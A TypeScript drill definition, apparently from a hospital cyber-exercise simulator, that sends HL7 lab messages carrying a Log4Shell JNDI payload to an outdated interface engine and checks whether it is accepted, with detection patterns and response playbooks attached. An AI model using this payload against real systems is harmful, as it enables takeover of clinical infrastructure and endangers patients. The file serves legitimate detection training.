import { PLACES } from '../hospital/places.ts';
import type { Drill } from './drill.ts';
import { ask } from './talk.ts';

/** An interface engine that nobody has updated logs what it is sent, and fetches what that names (CVE-2021-44228). */
export const obsolete: Drill = {
  id: 'obsolete',
  title: 'An outdated interface engine is taken over through an HL7 message',
  useCase: '1 Attack on a hospital running an obsolete system',
  from: PLACES.station8,
  targets: [PLACES.engine, PLACES.masters],
  mustDetect: /log4j|HL7/i,
  playbooks: [/obsolete operating system/, /interface engine/, /^Isolate/, /^Micro/],
  steps: 40,
  everyMs: 700,
  async step(number) {
    const time = new Date().toISOString().replace(/\D/g, '').slice(0, 14);
    const lines = [
      `MSH|^~\\&|LAB|LAB1|ENGINE|HOSPITAL|${time}||ORU^R01|X${number}|P|2.5`,
      `PID|1||DRILL^^^HOSPITAL||\${jndi:ldap://${PLACES.masters.ip}:4444/a}`,
      'OBX|1|NM|718-7^Haemoglobin^LN||13.8|g/dL|12-16|N|||F',
    ];
    const answer = await ask(PLACES.engine.ip, 2575, `\x0b${lines.join('\r')}\r\x1c\r`, '\x1c\r');
    return answer.includes('MSA|AA');
  },
};
